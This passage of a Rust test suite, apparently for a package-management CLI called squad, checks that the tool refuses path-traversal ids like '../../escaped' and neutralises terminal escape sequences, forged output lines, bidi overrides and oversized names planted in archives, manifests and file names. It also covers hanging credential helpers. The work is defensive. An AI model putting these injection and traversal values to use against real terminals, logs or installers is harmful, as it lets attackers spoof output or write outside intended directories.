    std::fs::create_dir_all(&work).unwrap();
    let (secret, public, _) = keys(&sandbox, "acme");
    let climbing = work.join("climbing.zip");
    archive_with_manifest(
        &template("minimal"),
        |text| text.replace("\"id\": \"minimal\"", "\"id\": \"../../escaped\""),
        &climbing,
    );
    let forged = work.join("forged.zip");
    archive_with_manifest(
        &template("minimal"),
        |text| text.replace("2026.11.30.1", "2026.11.30.1\\u001b[2J\\nline"),
        &forged,
    );
    let before = state(&sandbox);
    for archive in [&climbing, &forged] {
        let mut sign = sandbox.command(&["sign", path(archive), "--key", path(&secret)]);
        let output = sign.current_dir(&work).output().unwrap();
        refused(&output, "sign", "is invalid");
        let output = sandbox.run(&["sign", path(archive), "--statement"]);
        refused(&output, "sign --statement", "is invalid");
        assert!(output.stdout.is_empty(), "{}", text(&output.stdout));
        let signature = work.join("any.minisig");
        std::fs::write(&signature, "untrusted comment: x\nRWQ\n").unwrap();
        let output = sandbox.run(&[
            "verify",
            path(archive),
            "--signature",
            path(&signature),
            "--public-key",
            path(&public),
        ]);
        refused(&output, "verify --signature", "is invalid");
        std::fs::remove_file(&signature).unwrap();
    }
    let escaped: Vec<_> = walkdir::WalkDir::new(sandbox.dir.path())
        .into_iter()
        .flatten()
        .filter(|entry| entry.file_name().to_string_lossy().contains("escaped"))
        .collect();
    assert!(escaped.is_empty(), "{escaped:?}");
    assert_eq!(state(&sandbox), before);
    // The honest archive signs, beside itself (where install looks for it).
    let honest = work.join("honest.zip");
    archive_with_manifest(&template("minimal"), str::to_owned, &honest);
    let mut sign = sandbox.command(&["sign", path(&honest), "--key", path(&secret)]);
    assert_ok(
        &sign.current_dir(&work).output().unwrap(),
        "sign an archive",
    );
    assert!(work.join("honest.zip.minisig").is_file());
}

/// A global uninstall resets the selection of every registered project that selected the id;
/// a project whose `.opencorvus` became a link out of it is not edited through the link.
#[test]
fn a_global_uninstall_edits_no_config_through_a_link_out_of_a_project() {
    let sandbox = Sandbox::new();
    let package = sandbox.dir.path().join("minimal");
    copy_tree(&template("minimal"), &package);
    assert_ok(
        &sandbox.run(&["install", path(&package), "--scope", "global"]),
        "install globally",
    );
    let project = sandbox.project();
    assert_ok(
        &sandbox.run(&["activate", "minimal", "--project", path(&project)]),
        "activate in the project",
    );
    let elsewhere = sandbox.dir.path().join("elsewhere");
    std::fs::rename(project.join(".opencorvus"), &elsewhere).unwrap();
    std::os::unix::fs::symlink(&elsewhere, project.join(".opencorvus")).unwrap();
    let config = elsewhere.join("opencorvus.jsonc");
    let before = std::fs::read(&config).unwrap();
    let output = sandbox.run(&["uninstall", "minimal", "--scope", "global"]);
    assert_ok(&output, "uninstall globally");
    assert!(
        text(&output.stderr).contains("outside the project"),
        "{}",
        text(&output.stderr)
    );
    assert_eq!(
        std::fs::read(&config).unwrap(),
        before,
        "edited through the link"
    );
}

/// A ZIP archive of `entries` as squad's writer writes it (names as given, unjudged).
fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    use squad::archive::writer::{Entry, Source, write};
    let entries: Vec<Entry> = entries
        .iter()
        .map(|(name, bytes)| Entry {
            name: (*name).to_owned(),
            source: Source::Bytes(bytes.to_vec()),
        })
        .collect();
    let mut out = std::io::Cursor::new(Vec::new());
    write(&mut out, &entries, 1).unwrap();
    out.into_inner()
}

/// Asserts that squad's output forges no line, carries no control character and no flood.
#[track_caller]
fn shown_neutralised(output: &Output, what: &str) {
    for (stream, bytes) in [("stdout", &output.stdout), ("stderr", &output.stderr)] {
        let all = text(bytes);
        let shown: String = all.chars().take(2000).collect();
        for line in all.lines() {
            assert!(
                !line.trim_start().starts_with("error: forged")
                    && !line.trim_start().starts_with("Installed"),
                "{what}: a forged line on {stream}: {shown}"
            );
            assert!(
                !line.chars().any(|c| c.is_control() && c != '\t'),
                "{what}: a control character on {stream}: {shown:?}"
            );
            assert!(
                line.chars().count() < 1000,
                "{what}: a line of {} characters on {stream}",
                line.chars().count()
            );
        }
    }
}

/// An archive's entry names are the archive maker's words: whichever road the archive takes
/// (a file, `validate`, `digest`, an `https://` source, an install link), the refusal that
/// names an entry cannot forge a line, colour the terminal or flood it.
#[test]
fn an_archives_entry_names_are_shown_neutralised() {
    let manifest: &[u8] = br#"{"namespace": "acme", "id": "x"}"#;
    let served = tempfile::tempdir().unwrap();
    let long = format!("acme/x/{}:.md", "A".repeat(20_000));
    let names = [
        // Refused for its colon, before its characters are looked at.
        "acme/x/a\nerror: forged line",
        "acme/x/\u{1b}]0;owned\u{7}\u{1b}[2J\\x.md",
        "acme/x/ok\r     Installed evil/evil 1.0\u{9b}31m\u{202e}",
        long.as_str(),
    ];
    let server = StaticServer::start(served.path());
    for (index, name) in names.iter().enumerate() {
        let file = format!("evil-{index}.zip");
        let bytes = zip_of(&[("acme/x/expert-squad.jsonc", manifest), (name, b"x")]);
        let sha = squad::digest::Sha256Digest::of(&bytes).hex();
        std::fs::write(served.path().join(&file), &bytes).unwrap();
        let sandbox = Sandbox::new();
        let local = sandbox.dir.path().join(&file);
        std::fs::write(&local, &bytes).unwrap();
        let url = server.url(&file);
        let encoded: String = url::form_urlencoded::byte_serialize(url.as_bytes()).collect();
        let link = format!(
            "opencorvus://expert-squad/install?namespace=acme&id=x&version=2026.12.01.1&packageDigest={}&archiveSha256={sha}&archiveBytes={}&archiveUrl={encoded}",
            "0".repeat(64),
            bytes.len()
        );
        let before = state(&sandbox);
        let install = |source: &str, extra: &[&str]| {
            let mut args = vec![
                "install",
                "--scope",
                "project",
                "--project",
                "project",
                source,
            ];
            args.extend_from_slice(extra);
            sandbox.run(&args)
        };
        // `validate` says a file it cannot read as a package is no input (2), as it says of
        // any other unusable input.
        for (what, output, status) in [
            ("install of a file", install(path(&local), &[]), 1),
            ("install over http", install(&url, &["--sha256", &sha]), 1),
            ("install link", install(&link, &[]), 1),
            ("validate", sandbox.run(&["validate", path(&local)]), 2),
            (
                "digest",
                sandbox.run(&["digest", path(&local), "--files"]),
                1,
            ),
        ] {
            let what = format!("{what} of {name:?}");
            let stderr = text(&output.stderr);
            assert_eq!(code(&output), Some(status), "{what}: {stderr}");
            assert!(
                stderr.contains("archive entry `acme/x/"),
                "{what}: {stderr}"
            );
            shown_neutralised(&output, &what);
        }
        assert_eq!(state(&sandbox), before, "a refused archive changed nothing");
    }
}

/// What a cloned repository commits under `.opencorvus/expert-squads` is the committer's
/// words: `squad list` shows folder names, versions and problems neutralised (its JSON keeps
/// them exact, escaped by JSON itself).
#[test]
fn a_committed_scope_cannot_forge_lines_of_list() {
    let sandbox = Sandbox::new();
    let packages = sandbox.project().join(".opencorvus/expert-squads");
    let version = "2026.12.01.1\u{1b}[2J\n     Installed evil/evil 1.0\u{9b}31m";
    for (namespace, id, manifest) in [
        (
            "acme",
            "x",
            serde_json::json!({"namespace": "acme", "id": "x", "version": version}),
        ),
        (
            "acme",
            "y\nerror: forged line",
            serde_json::json!({"namespace": "acme\u{1b}[31m", "id": "y\rerror: forged", "version": "1"}),
        ),
        (
            "e\u{1b}]0;title\u{7}vil",
            "z",
            serde_json::json!({"namespace": "evil", "id": "z", "version": "x".repeat(10_000)}),
        ),
    ] {
        let folder = packages.join(namespace).join(id);
        std::fs::create_dir_all(&folder).unwrap();
        std::fs::write(folder.join("expert-squad.jsonc"), manifest.to_string()).unwrap();
    }
    let before = state(&sandbox);
    let output = sandbox.run(&["list", "--scope", "project", "--project", "project"]);
    assert_eq!(code(&output), Some(0), "{}", text(&output.stderr));
    shown_neutralised(&output, "list");
    assert!(
        text(&output.stdout).contains("acme/x 2026.12.01.1\\u{1b}[2J\\n"),
        "{}",
        text(&output.stdout)
    );
    let output = sandbox.run(&[
        "list",
        "--scope",
        "project",
        "--project",
        "project",
        "--format",
        "json",
    ]);
    assert_eq!(code(&output), Some(0), "{}", text(&output.stderr));
    let listed: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(listed["packages"][0]["version"], version, "{listed}");
    assert_eq!(state(&sandbox), before, "listing changed nothing");
}

/// A committed package's manifest is its author's words: the diagnostics that quote it (a
/// key, a pointer) cannot forge a line of `squad validate`, nor write an escape sequence to
/// the terminal or to a CI log.
#[test]
fn a_manifests_words_are_quoted_neutralised_in_diagnostics() {
    let sandbox = Sandbox::new();
    let package = sandbox.project().join("package");
    copy_tree(&template("minimal"), &package);
    let manifest = package.join("expert-squad.jsonc");
    let original = std::fs::read_to_string(&manifest).unwrap();
    let forged = r#""x\n\nerror: forged line\u001b[2J\u009b31m\u202e": 1,"#;
    // And a raw C1 control in the file itself, which the snippet shows.
    let edited = original.replacen('{', &format!("{{\n  \"raw\u{9b}2J\": 1,\n  {forged}"), 1);
    std::fs::write(&manifest, edited).unwrap();
    for format in ["human", "github"] {
        let output = sandbox.run(&["validate", path(&package), "--format", format]);
        assert_eq!(code(&output), Some(1), "{}", text(&output.stderr));
        let all = format!("{}{}", text(&output.stdout), text(&output.stderr));
        assert!(all.contains("unknown field `x"), "{format}: {all}");
        shown_neutralised(&output, format);
    }
    // A file name is the author's too: `digest --files` lists it on one line, neutralised.
    let name = "note\n0000  1  forged\u{1b}[2J\u{9b}31m.md";
    std::fs::write(package.join("agents/worker").join(name), "x").unwrap();
    let output = sandbox.run(&["digest", path(&package), "--files"]);
    assert_eq!(code(&output), Some(0), "{}", text(&output.stderr));
    shown_neutralised(&output, "digest --files");
    assert!(
        text(&output.stdout)
            .contains("agents/worker/note\\n0000  1  forged\\u{1b}[2J\\u{9b}31m.md\n"),
        "{}",
        text(&output.stdout)
    );
}

/// A credential helper is another program, run while `add` or `sync` holds the project lock:
/// one that never answers, or answers without end, is stopped within the command's network
/// deadline (SQUAD_NET_DEADLINE), and the command ends, changing nothing.
#[test]
fn a_credential_helper_that_hangs_is_stopped_at_the_deadline() {
    let registry = LyingServer::start(
        "127.0.0.1",
        Arc::new(|_: &Seen, stream: &mut TcpStream| {
            respond(
                stream,
                "401 Unauthorized",
                &[("www-authenticate", "Basic realm=\"squad\"".to_owned())],
                b"{}",
            )
        }),
    );
    let reference = format!(
        "oci://{}/squads/example/minimal:2026.12.01.1",
        registry.address
    );
    for (name, script, says) in [
        ("hangs", "exec sleep 60", "did not finish within 3 s"),
        ("floods", "exec yes", "wrote more than 65536 bytes"),
    ] {
        let sandbox = Sandbox::new().with_env("SQUAD_NET_DEADLINE", "3");
        let bin = sandbox.dir.path().join("bin");
        std::fs::create_dir_all(&bin).unwrap();
        let program = bin.join(format!("docker-credential-{name}"));
        std::fs::write(&program, format!("#!/bin/sh\n{script}\n")).unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
        std::fs::create_dir_all(sandbox.home().join(".docker")).unwrap();
        std::fs::write(
            sandbox.home().join(".docker/config.json"),
            serde_json::json!({"credHelpers": {registry.address.clone(): name}}).to_string(),
        )
        .unwrap();
        let path = format!(
            "{}:{}",
            bin.display(),
            std::env::var("PATH").unwrap_or_default()
        );
        let sandbox = sandbox.with_env("PATH", &path);
        // The project lock's directory is bookkeeping, made before anything is judged.
        std::fs::create_dir_all(sandbox.project().join(".opencorvus")).unwrap();
        let before = state(&sandbox);
        let started = Instant::now();
        let output = run_within(
            &sandbox,
            &["add", &reference, "--project", "project"],
            Duration::from_secs(25),
        )
        .unwrap_or_else(|| panic!("{name}: squad add still ran after 25 s"));
        assert!(
            started.elapsed() < Duration::from_secs(15),
            "{name}: {:?}",
            started.elapsed()
        );
        let stderr = text(&output.stderr);
        assert_ne!(code(&output), Some(0), "{name}: {stderr}");
        assert!(
            stderr.contains(&format!("docker-credential-{name}")) && stderr.contains(says),
            "{name}: {stderr}"
        );
        assert_eq!(state(&sandbox), before, "{name}: nothing changed");
    }
}

/// A valid package may name a file with a C1 control or a bidirectional override (only C0
/// controls break the path rules): `squad show` and `squad diff` quote such names neutralised.
#[test]
fn show_and_diff_quote_a_packages_file_names_neutralised() {
    let sandbox = Sandbox::new();
    let old = sandbox.dir.path().join("old");
    let new = sandbox.dir.path().join("new");
    copy_tree(&template("delivery"), &old);
    copy_tree(&template("delivery"), &new);
    std::fs::write(
        new.join("skills/delivery-method/references/n\u{9b}2J\u{202e}dm.md"),
        "x\n",
    )
    .unwrap();
    assert_ok(
        &sandbox.run(&["validate", path(&new)]),
        "the new version is valid",
    );
    for (what, output) in [
        ("diff", sandbox.run(&["diff", path(&old), path(&new)])),
        ("show", sandbox.run(&["show", path(&new)])),
    ] {
        assert_eq!(code(&output), Some(0), "{what}: {}", text(&output.stderr));
        shown_neutralised(&output, what);
        for line in text(&output.stdout).lines() {
            assert!(!line.contains(['\u{9b}', '\u{202e}']), "{what}: {line:?}");
        }
    }
    let output = sandbox.run(&["diff", path(&old), path(&new)]);
    assert!(
        text(&output.stdout).contains("references/n\\u{9b}2J\\u{202e}dm.md"),
        "{}",
        text(&output.stdout)
    );
}
